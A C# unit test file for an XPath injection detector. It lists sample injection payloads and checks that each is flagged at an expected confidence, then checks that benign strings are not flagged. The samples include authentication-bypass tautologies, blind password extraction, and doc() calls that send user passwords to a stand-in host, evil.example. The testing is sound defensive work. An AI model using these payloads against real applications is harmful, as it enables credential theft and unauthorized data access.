using System.Text;
using Palisade.Detection.XPaths;

namespace Palisade.Detection.Tests.XPaths;

public sealed class XPathInjectionTests
{
    [Theory]
    [InlineData("' or count(/*)=1 or 'a'='b", Confidence.High)]
    [InlineData("x' or name()='username' or 'x'='y", Confidence.High)]
    [InlineData("' or position()=1 or '", Confidence.High)]
    [InlineData("' and string-length(name(/*[1]))=6 or 'a'='b", Confidence.High)]
    [InlineData("'] | //user/*[contains(*,'", Confidence.High)]
    [InlineData("')]|//*|//*[('", Confidence.High)]
    [InlineData("' or substring(//user[1]/password,1,1)='a", Confidence.High)]
    [InlineData("1 or count(//*)>0", Confidence.Medium)]
    [InlineData("1 or true()", Confidence.Medium)]
    [InlineData("' or contains(name,'adm') or '", Confidence.High)]
    [InlineData("count(/child::node())", Confidence.Medium)]
    [InlineData("' and doc(concat('http://evil.example/',//user/password))='1", Confidence.High)]
    [InlineData("' and doc('http://evil.example/')='", Confidence.High)]
    [InlineData("' or count(parent::*)=1 or '", Confidence.High)]
    public void An_expression_is_found(string value, Confidence confidence)
    {
        var finding = XPathInjection.Detect(Encoding.UTF8.GetBytes(value));

        Assert.NotNull(finding);
        Assert.Equal(confidence, finding.Confidence);
        Assert.InRange(finding.Length, 1, Encoding.UTF8.GetByteCount(value) - finding.Offset);
    }

    [Theory]
    [InlineData("//div[@class='item']")]
    [InlineData("it's count(1) or more")]
    [InlineData("name() and position() are functions")]
    [InlineData("std::string(x) || child")]
    [InlineData("a | b (c)")]
    [InlineData("the doc('s) name")]
    [InlineData("/a|/b (c)")]
    public void What_applications_are_sent_is_clean(string value) => Assert.False(XPathInjection.Detect(Encoding.UTF8.GetBytes(value)) is { Confidence: > Confidence.Low });
}
